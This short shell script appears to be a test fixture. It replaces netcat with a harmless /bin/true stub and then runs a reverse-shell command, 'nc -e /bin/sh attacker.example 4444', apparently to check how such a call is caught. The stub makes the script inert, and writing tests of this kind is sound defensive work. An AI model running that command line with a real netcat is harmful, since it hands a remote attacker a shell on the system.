#!/bin/sh
. "$(dirname "$0")/common.sh"
cp /bin/true "$S/nc"
"$S/nc" -e /bin/sh attacker.example 4444
